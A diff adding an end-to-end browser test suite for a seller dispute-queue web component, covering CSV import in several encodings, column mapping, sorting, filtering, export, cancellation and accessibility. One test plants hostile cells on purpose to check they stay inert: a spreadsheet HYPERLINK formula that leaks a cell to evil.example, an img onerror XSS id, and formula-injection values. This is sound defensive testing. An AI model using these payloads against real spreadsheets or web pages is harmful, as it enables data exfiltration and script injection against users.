@@ -1,0 +1,443 @@
+// <dispute-queue> as a seller uses it, on the real page (www/queue.html, after `make www`): the
+// template CSV; 1,000 rows in UTF-8, UTF-8 with a BOM and GBK; the mapping step with unknown
+// headers, remembered; refused rows with their field; sort, filters, search; the detail view; export
+// then re-import; Cancel mid-run; 20,000 rows with the progress bar moving; hostile cells kept as
+// text and exported inert; file://; axe in both languages; 375 px. Screenshots in test-results/.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { join } from "node:path";
+import iconv from "iconv-lite";
+import { serve, launch, openPage, fileUrl, screenshot, repoRoot } from "./harness.mjs";
+import { generateItems } from "../../queue/generate.js";
+import { exportCsv, tableFromItems } from "../../queue/export.js";
+import { parseCsv } from "../../queue/csv.js";
+import { chineseHeaders } from "../../queue/fields.js";
+
+const AS_OF = "2026-06-01";
+let server, browser;
+
+before(async () => {
+  server = await serve();
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+/** The queue page over http (or from disk), with the element defined and an as-of date set. */
+async function queuePage({ lang = "en", width = 1200, file = false, asOf = AS_OF } = {}) {
+  const page = await openPage(browser, { viewport: { width, height: 900 }, locale: lang });
+  await page.goto(file ? `${fileUrl("www/queue.html")}?lang=${lang}` : `${server.url}/www/queue.html?lang=${lang}`);
+  await page.waitForFunction(() => customElements.get("dispute-queue") && document.querySelector("dispute-queue").dataset.state === "idle");
+  if (asOf) await page.evaluate((d) => document.querySelector("dispute-queue").setAttribute("as-of", d), asOf);
+  return page;
+}
+
+/** CSV text of generated items (the note is an extra column), as the core's export writes it. */
+function csvOf(items, { chinese = false } = {}) {
+  const table = tableFromItems(items);
+  if (chinese) table.headers = chineseHeaders(table.headers);
+  return exportCsv(table); // starts with a BOM
+}
+
+/** Gives the element a file and resolves to queue-done's detail. */
+async function importFile(page, buffer, name = "disputes.csv") {
+  await page.evaluate(() => {
+    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
+  });
+  await page.locator("dispute-queue #file").setInputFiles({ name, mimeType: "text/csv", buffer });
+  return page.evaluate(() => window.queueDone);
+}
+
+const entries = (page) => page.evaluate(() => document.querySelector("dispute-queue").entries);
+const shadowText = (page, selector) => page.evaluate((s) => [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(s)].map((n) => n.textContent), selector);
+/** The order ids of the rows in the DOM, in list order. */
+const shownIds = (page) =>
+  page.evaluate(() =>
+    [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow")]
+      .sort((a, b) => a.getAttribute("aria-rowindex") - b.getAttribute("aria-rowindex"))
+      .map((row) => row.querySelector(".c-id").textContent),
+  );
+const stateOf = (page) => page.evaluate(() => ({ ...document.querySelector("dispute-queue").dataset }));
+
+test("the template CSV (English and Chinese headers): every row triaged, the most urgent first", async () => {
+  const page = await queuePage();
+  const done = await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-en.csv")));
+  assert.equal(done.rows, 5);
+  assert.equal(done.refused, 0);
+  assert.equal(Object.values(done.byOutcome).reduce((a, b) => a + b, 0), 5);
+  assert.deepEqual(await stateOf(page), { state: "done", rows: "5", refused: "0" });
+  const en = await entries(page);
+  // Rows have their own asOf: the nearest deadline ahead of each row's own date comes first.
+  const ahead = en.filter((e) => e.deadline).map((e) => e.deadline.daysLeft);
+  assert.deepEqual(ahead, [...ahead].sort((a, b) => a - b));
+  assert.ok(ahead.length >= 2);
+  assert.equal(en.find((e) => e.id === "AE-2015-0001").outcome, "reject");
+  // The list shows the same rows in the same order.
+  assert.deepEqual(await shownIds(page), en.map((e) => e.id));
+  const zh = await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-zh.csv")));
+  assert.deepEqual(zh, done);
+  const zhEntries = await entries(page);
+  assert.deepEqual(zhEntries.map((e) => [e.id, e.outcome, e.refund, e.deadline]), en.map((e) => [e.id, e.outcome, e.refund, e.deadline]));
+  assert.deepEqual(page.problems, []);
+  await screenshot(page, "queue-template");
+  await page.context().close();
+});
+
+for (const [encoding, bytes] of [
+  ["UTF-8", (text) => Buffer.from(text.replace(/^\uFEFF/, ""), "utf8")],
+  ["UTF-8 with BOM", (text) => Buffer.from(text, "utf8")],
+  ["GBK (Chinese headers)", (text) => iconv.encode(text.replace(/^\uFEFF/, ""), "gbk")],
+]) {
+  test(`1,000 rows in ${encoding}: every row read, Chinese text intact, refused rows counted`, async () => {
+    const items = generateItems(1000, { asOf: AS_OF, badEvery: 50 });
+    const chinese = encoding.startsWith("GBK");
+    const buffer = bytes(csvOf(items, { chinese }));
+    if (chinese) assert.throws(() => new TextDecoder("utf-8", { fatal: true }).decode(buffer), "the GBK file is not UTF-8");
+    const page = await queuePage();
+    const done = await importFile(page, buffer);
+    assert.equal(done.rows, 1000);
+    assert.equal(done.refused, 20);
+    const list = await entries(page);
+    assert.equal(list.length, 1000);
+    const byId = new Map(list.map((e) => [e.id, e]));
+    for (const item of items) {
+      const e = byId.get(item.orderId);
+      assert.ok(e, item.orderId);
+      assert.equal(e.extras[chinese ? "备注" : "note"], item.note, `${item.orderId}: the note as written`);
+    }
+    assert.ok(list.some((e) => /[\u4e00-\u9fff]/.test(Object.values(e.extras).join(""))));
+    assert.deepEqual(page.problems, []);
+    await page.context().close();
+  });
+}
+
+test("the mapping step: unknown headers are mapped once, remembered for the next file with those columns", async () => {
+  const csv = [
+    "Bestellnummer,Plattform,Grund,Waehrung,Betrag,Versand,Eroeffnet,Bemerkung",
+    "DE-1,aliexpress,not_received,USD,25.99,2026-05-10,2026-05-30,erste",
+    "DE-2,amazon,damaged_in_transit,USD,12.00,2026-05-20,2026-05-31,zweite",
+  ].join("\r\n");
+  const page = await queuePage();
+  await page.locator("dispute-queue #file").setInputFiles({ name: "export.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
+  await page.waitForSelector("dispute-queue .mapping:not([hidden])");
+  assert.equal((await stateOf(page)).state, "idle");
+  const missing = await shadowText(page, ".mapping .field-error");
+  assert.match(missing[0], /orderId, ruleset, reason, currency, price/);
+  await screenshot(page, "queue-mapping");
+  const root = page.locator("dispute-queue");
+  await root.locator("#map-orderId").selectOption("Bestellnummer");
+  await root.locator("#map-ruleset").selectOption("Plattform");
+  await root.locator("#map-reason").selectOption("Grund");
+  await root.locator("#map-currency").selectOption("Waehrung");
+  await root.locator("#map-price").selectOption("Betrag");
+  // An optional field, from "Other fields".
+  await root.locator(".mapping details summary").click();
+  await root.locator("#map-dates-shipped").selectOption("Versand");
+  await root.locator("#map-dates-opened").selectOption("Eroeffnet");
+  await page.evaluate(() => {
+    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
+  });
+  await root.locator(".mapping button[type=submit]").click();
+  const done = await page.evaluate(() => window.queueDone);
+  assert.deepEqual([done.rows, done.refused], [2, 0]);
+  const first = await entries(page);
+  assert.deepEqual(first.map((e) => e.id).sort(), ["DE-1", "DE-2"]);
+  assert.equal(first.find((e) => e.id === "DE-1").extras.Bemerkung, "erste");
+  // A new page, the same columns in another order: no mapping step, the same result.
+  await page.reload();
+  await page.waitForFunction(() => document.querySelector("dispute-queue")?.dataset.state === "idle");
+  await page.evaluate((d) => document.querySelector("dispute-queue").setAttribute("as-of", d), AS_OF);
+  const reordered = csv.split("\r\n").map((line) => { const c = line.split(","); return [c[7], ...c.slice(0, 7)].join(","); }).join("\r\n");
+  const again = await importFile(page, Buffer.from(reordered));
+  assert.deepEqual(again, done);
+  assert.deepEqual((await entries(page)).map((e) => [e.id, e.outcome, e.deadline]), first.map((e) => [e.id, e.outcome, e.deadline]));
+  assert.equal(await page.locator("dispute-queue .mapping").isHidden(), true);
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("refused rows are kept and shown with their field and a message in the page's language", async () => {
+  const items = generateItems(40, { asOf: AS_OF, badEvery: 20 });
+  const text = csvOf(items).replace(/\r\n(TA100004,[^\r]*)/, (all, line) => "\r\n" + line.replace(/,(\d+\.\d\d),/, ",12.345,"));
+  const page = await queuePage();
+  const done = await importFile(page, Buffer.from(text));
+  assert.equal(done.rows, 40);
+  assert.equal(done.refused, 3, "two delivered-before-shipped rows and one bad amount");
+  const refused = (await entries(page)).filter((e) => e.outcome === "refused");
+  assert.deepEqual(refused.map((e) => `${e.error.code} ${e.error.field}`).sort(), ["date_order dates.delivered", "date_order dates.delivered", "invalid_amount price"]);
+  const root = page.locator("dispute-queue");
+  await root.locator("#outcome-filter").selectOption("refused");
+  const cells = await shadowText(page, ".qbody .qrow .c-deadline");
+  assert.equal(cells.length, 3);
+  assert.ok(cells.some((c) => c === "Price paid for the goods (price): not an allowed amount."), cells.join("\n"));
+  assert.ok(cells.some((c) => /^Delivered \(tracking\) \(dates\.delivered\): out of order/.test(c)), cells.join("\n"));
+  await screenshot(page, "queue-refused-en");
+  await page.selectOption("#lang", "zh-CN");
+  await page.waitForFunction(() => /[\u4e00-\u9fff]/.test(document.querySelector("dispute-queue").shadowRoot.querySelector(".qbody .c-deadline").textContent));
+  const zh = await shadowText(page, ".qbody .qrow .c-deadline");
+  assert.ok(zh.some((c) => c === "商品金额 (price)：金额不符合要求。" || /^[^:]*\(price\)[:：]\s?金额不符合要求。$/.test(c)), zh.join("\n"));
+  await screenshot(page, "queue-refused-zh");
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("sort by any column, filter by outcome, ruleset and due date, search the order id", async () => {
+  const page = await queuePage();
+  await importFile(page, Buffer.from(csvOf(generateItems(600, { asOf: AS_OF, badEvery: 60 }))));
+  const root = page.locator("dispute-queue");
+  const all = await entries(page);
+  // Urgency: deadlines ahead, nearest first; then refused rows; then the rest.
+  const rank = (e) => (e.deadline ? 0 : e.outcome === "refused" ? 1 : 2);
+  assert.deepEqual(all.map(rank), [...all.map(rank)].sort((a, b) => a - b));
+  const ahead = all.filter((e) => e.deadline).map((e) => e.deadline.daysLeft);
+  assert.deepEqual(ahead, [...ahead].sort((a, b) => a - b));
+  // Refund: ascending, then descending on a second click (rows without a refund last).
+  await root.locator('button.sort[data-column="refund"]').click();
+  const up = (await entries(page)).filter((e) => e.refund !== null && e.currency === "CNY").map((e) => e.refund);
+  assert.deepEqual(up, [...up].sort((a, b) => a - b));
+  assert.equal(await root.locator('[role=columnheader]:has(button[data-column="refund"])').getAttribute("aria-sort"), "ascending");
+  await root.locator('button.sort[data-column="refund"]').click();
+  const down = (await entries(page)).filter((e) => e.refund !== null && e.currency === "CNY").map((e) => e.refund);
+  assert.deepEqual(down, [...down].sort((a, b) => b - a));
+  // Order id.
+  await root.locator('button.sort[data-column="id"]').click();
+  const ids = (await entries(page)).map((e) => e.id);
+  assert.deepEqual(ids, [...ids].sort((a, b) => a.localeCompare(b, undefined, { numeric: true })));
+  assert.deepEqual(await shadowText(page, ".qbody .qrow[aria-rowindex='2'] .c-id"), [ids[0]]);
+  // Filters.
+  await root.locator("#outcome-filter").selectOption("reject");
+  assert.ok((await entries(page)).every((e) => e.outcome === "reject"));
+  await root.locator("#outcome-filter").selectOption("");
+  await root.locator("#ruleset-filter").selectOption("taobao");
+  const taobao = await entries(page);
+  assert.ok(taobao.length > 0 && taobao.every((e) => e.ruleset === "taobao"));
+  await root.locator("#ruleset-filter").selectOption("");
+  await root.locator("#due-within").fill("3");
+  const due = await entries(page);
+  assert.ok(due.length > 0 && due.every((e) => e.deadline && e.deadline.daysLeft <= 3));
+  assert.equal(due.length, all.filter((e) => e.deadline && e.deadline.daysLeft <= 3).length);
+  assert.match((await shadowText(page, "#count"))[0], new RegExp(`Showing ${due.length} of 600 rows`));
+  await root.locator("#due-within").fill("");
+  await root.locator("#search").fill("tm10000");
+  const found = await entries(page);
+  assert.deepEqual(found.map((e) => e.id).sort(), all.map((e) => e.id).filter((id) => /tm10000/i.test(id)).sort());
+  assert.ok(found.length > 0);
+  await root.locator("#search").fill("no-such-order");
+  assert.equal((await entries(page)).length, 0);
+  assert.equal(await root.locator(".empty").isVisible(), true);
+  await root.locator("#search").fill("");
+  await root.locator("#urgency").click();
+  assert.deepEqual((await entries(page)).map((e) => e.id), all.map((e) => e.id));
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("the detail: Enter or a click on a row opens the order in <dispute-calculator view=result> with its text", async () => {
+  const page = await queuePage();
+  await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-en.csv")));
+  const root = page.locator("dispute-queue");
+  const list = await entries(page);
+  // Keyboard: Tab reaches the first row; ArrowDown moves; Enter opens.
+  await root.locator('button.sort[data-column="check"]').focus();
+  await page.keyboard.press("Tab");
+  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex")), "2");
+  await page.keyboard.press("ArrowDown");
+  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex")), "3");
+  await page.keyboard.press("Enter");
+  const calc = root.locator("dialog.detail dispute-calculator");
+  await calc.locator("[data-outcome]").first().waitFor({ state: "attached" });
+  await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator")?.hasAttribute("data-outcome"));
+  const shown = await page.evaluate(() => {
+    const c = document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator");
+    return { outcome: c.getAttribute("data-outcome"), view: c.getAttribute("view"), reply: c.result.reply, summary: c.result.summary, heading: c.closest("dialog").querySelector("h2").textContent, open: c.closest("dialog").open };
+  });
+  assert.equal(shown.open, true);
+  assert.equal(shown.view, "result");
+  assert.equal(shown.heading, `Order ${list[1].id}`);
+  assert.equal(shown.outcome, list[1].outcome);
+  assert.ok(shown.reply && shown.reply.length > 20, "the reply text is on");
+  await screenshot(page, "queue-detail");
+  await page.keyboard.press("Escape");
+  assert.equal(await root.locator("dialog.detail").isVisible(), false);
+  // Focus goes back to the row.
+  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex")), "3");
+  // A click on another row.
+  await root.locator(".qbody .qrow[aria-rowindex='4']").click();
+  await page.waitForFunction((id) => document.querySelector("dispute-queue").shadowRoot.querySelector("dialog h2").textContent.includes(id) && document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator").getAttribute("data-outcome"), list[2].id);
+  assert.equal(await root.locator("dispute-calculator").getAttribute("data-outcome"), list[2].outcome);
+  await root.locator("dialog .close").click();
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("export then re-import gives the same list; hostile cells are shown as text and exported inert", async () => {
+  const items = generateItems(300, { asOf: AS_OF, badEvery: 30 });
+  items[0].note = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
+  items[1].orderId = "<img src=x onerror=window.pwned=1>";
+  items[2].orderId = "=1+2";
+  items[3].note = "@SUM(1+1)";
+  items[4].note = "-12.5"; // a number: left as it is
+  const page = await queuePage();
+  await importFile(page, Buffer.from(csvOf(items)));
+  const before = await entries(page);
+  // Shown as text: no element made from a cell, the id as typed.
+  const hostile = await page.evaluate(() => {
+    const root = document.querySelector("dispute-queue").shadowRoot;
+    return { imgs: root.querySelectorAll("img").length, pwned: window.pwned === 1 };
+  });
+  assert.deepEqual(hostile, { imgs: 0, pwned: false });
+  await page.locator("dispute-queue #search").fill("<img");
+  assert.deepEqual(await shadowText(page, ".qbody .qrow .c-id"), ["<img src=x onerror=window.pwned=1>"]);
+  await page.locator("dispute-queue .qbody .qrow").first().click();
+  await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dialog").open);
+  assert.equal(await page.locator("dispute-queue #detail-h").textContent(), "Order <img src=x onerror=window.pwned=1>");
+  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelectorAll("img").length), 0);
+  await page.keyboard.press("Escape");
+  await page.locator("dispute-queue #search").fill("");
+  // The export: a download, UTF-8 with a BOM, formula cells neutralised.
+  const [download] = await Promise.all([page.waitForEvent("download"), page.locator("dispute-queue #export").click()]);
+  assert.match(download.suggestedFilename(), /^disputes-2026-06-01\.csv$/);
+  const bytes = await readFile(await download.path());
+  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+  const exported = parseCsv(bytes.toString("utf8")); // the core's reader (undoes the neutralising)
+  const raw = bytes.toString("utf8");
+  assert.ok(raw.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`), "the formula is quoted as text");
+  assert.ok(raw.includes("'=1+2,"), "an id that would be a formula");
+  assert.ok(raw.includes("'@SUM(1+1)"));
+  assert.ok(raw.includes(",-12.5") && !raw.includes("'-12.5"), "numbers are left alone");
+  assert.ok(raw.split("\r\n")[0].includes(",result.outcome,result.refund,result.fault,"));
+  assert.equal(exported.records.length, 300);
+  // Re-import the file as exported: the same list, the hostile cells as they were.
+  const again = await importFile(page, bytes, download.suggestedFilename());
+  assert.equal(again.rows, 300);
+  const after = await entries(page);
+  const key = (e) => JSON.stringify([e.id, e.outcome, e.refund, e.currency, e.fault, e.deadline, e.deadlines, e.failedCheck, e.error && [e.error.code, e.error.field], e.extras]);
+  assert.deepEqual(after.map(key), before.map(key));
+  assert.ok(after.some((e) => e.id === "=1+2"));
+  assert.ok(after.some((e) => e.extras.note === items[0].note));
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("Cancel mid-run stops the run; evaluating again completes", async () => {
+  const page = await queuePage();
+  const buffer = Buffer.from(csvOf(generateItems(20000, { asOf: AS_OF })));
+  await page.locator("dispute-queue #file").setInputFiles({ name: "big.csv", mimeType: "text/csv", buffer });
+  await page.waitForFunction(() => {
+    const p = document.querySelector("dispute-queue").shadowRoot.querySelector("progress");
+    return p.hasAttribute("value") && p.value >= 2000;
+  }, null, { timeout: 60000 });
+  await page.locator("dispute-queue #cancel").click();
+  await page.waitForFunction(() => document.querySelector("dispute-queue").dataset.state === "idle");
+  const message = (await shadowText(page, "#message"))[0];
+  const m = /^Stopped: ([\d,]+) of 20,000 rows evaluated/.exec(message);
+  assert.ok(m, message);
+  const stoppedAt = Number(m[1].replace(/,/g, ""));
+  assert.ok(stoppedAt >= 2000 && stoppedAt < 20000, message);
+  assert.equal(await page.locator("dispute-queue .list-panel").isHidden(), true);
+  await screenshot(page, "queue-cancelled");
+  await page.evaluate(() => {
+    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
+  });
+  await page.locator("dispute-queue #run").click();
+  const done = await page.evaluate(() => window.queueDone);
+  assert.equal(done.rows, 20000);
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("20,000 rows: the run completes with the progress bar moving and the page responsive", async () => {
+  const page = await queuePage();
+  const buffer = Buffer.from(csvOf(generateItems(20000, { asOf: AS_OF, badEvery: 100 })));
+  await page.evaluate(() => {
+    const q = document.querySelector("dispute-queue");
+    window.seen = [];
+    window.longest = 0;
+    let last = performance.now();
+    const tick = () => {
+      const now = performance.now();
+      window.longest = Math.max(window.longest, now - last);
+      last = now;
+      const p = q.shadowRoot.querySelector("progress");
+      if (q.dataset.state === "running" && p.hasAttribute("value") && window.seen.at(-1) !== p.value) window.seen.push(p.value);
+      if (q.dataset.state !== "done") requestAnimationFrame(tick);
+    };
+    requestAnimationFrame(tick);
+  });
+  const started = Date.now();
+  const done = await importFile(page, buffer, "big.csv");
+  const ms = Date.now() - started;
+  assert.deepEqual([done.rows, done.refused], [20000, 200]);
+  const seen = await page.evaluate(() => window.seen);
+  assert.ok(seen.length >= 5, `progress values seen: ${seen.join(", ")}`);
+  assert.deepEqual(seen, [...seen].sort((a, b) => a - b));
+  // Scrolling to the end renders the last rows.
+  await page.evaluate(() => {
+    const vp = document.querySelector("dispute-queue").shadowRoot.querySelector(".viewport");
+    vp.scrollTop = vp.scrollHeight;
+  });
+  await page.waitForFunction(() => !!document.querySelector("dispute-queue").shadowRoot.querySelector(".qbody .qrow[aria-rowindex='20001']"));
+  const rendered = await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow").length);
+  assert.ok(rendered < 80, `only the rows in view are in the DOM (${rendered})`);
+  await screenshot(page, "queue-20000");
+  console.log(`20,000 rows through the element: ${ms} ms to the list; longest frame gap ${Math.round(await page.evaluate(() => window.longest))} ms; progress steps seen ${seen.length}`);
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+test("file://: the page runs the queue with the worker started from a Blob URL", async () => {
+  const page = await queuePage({ file: true });
+  const done = await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-zh.csv")));
+  assert.deepEqual([done.rows, done.refused], [5, 0]);
+  assert.equal((await entries(page)).find((e) => e.id === "AE-2015-0001").outcome, "reject");
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
+for (const lang of ["en", "zh-CN"]) {
+  test(`axe-core (${lang}): nothing serious or critical in the import, mapping, list and detail`, async () => {
+    const page = await queuePage({ lang });
+    const axe = async (what) => {
+      // From the page's own origin: its CSP refuses inline script.
+      if (!(await page.evaluate(() => "axe" in window))) await page.addScriptTag({ url: `${server.url}/node_modules/axe-core/axe.min.js` });
+      const violations = await page.evaluate(async () => {
+        const r = await window.axe.run(document.querySelector("dispute-queue"), { resultTypes: ["violations"] });
+        return r.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => JSON.stringify(n.target)).slice(0, 4) }));
+      });
+      const serious = violations.filter((v) => v.impact === "serious" || v.impact === "critical");
+      assert.deepEqual(serious, [], `${what} ${lang}: ${JSON.stringify(serious)}`);
+    };
+    await axe("import");
+    await page.locator("dispute-queue #file").setInputFiles({ name: "x.csv", mimeType: "text/csv", buffer: Buffer.from("Nr,Plattform\r\n1,taobao\r\n") });
+    await page.waitForSelector("dispute-queue .mapping:not([hidden])");
+    await axe("mapping");
+    await importFile(page, Buffer.from(csvOf(generateItems(200, { asOf: AS_OF, badEvery: 25 }), { chinese: lang !== "en" })));
+    if (lang !== "en") assert.match((await shadowText(page, "#list-h"))[0], /[\u4e00-\u9fff]/);
+    await axe("list");
+    await screenshot(page, `queue-list-${lang}`);
+    await page.locator("dispute-queue .qbody .qrow").first().click();
+    await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator")?.hasAttribute("data-outcome"));
+    await axe("detail");
+    assert.deepEqual(page.problems, []);
+    await page.context().close();
+  });
+}
+
+test("375 px wide: two-line rows, nothing wider than the screen", async () => {
+  const page = await queuePage({ width: 375 });
+  await importFile(page, Buffer.from(csvOf(generateItems(100, { asOf: AS_OF, badEvery: 10 }))));
+  const sizes = await page.evaluate(() => {
+    const q = document.querySelector("dispute-queue");
+    const row = q.shadowRoot.querySelector(".qbody .qrow");
+    return { doc: document.documentElement.scrollWidth, narrow: q.shadowRoot.querySelector(".base").classList.contains("narrow"), row: row.getBoundingClientRect().width, grid: q.shadowRoot.querySelector(".qgrid").scrollWidth };
+  });
+  assert.ok(sizes.doc <= 375, `document ${sizes.doc} px wide`);
+  assert.equal(sizes.narrow, true);
+  assert.ok(sizes.grid <= 375, `list ${sizes.grid} px wide`);
+  await screenshot(page, "queue-375");
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
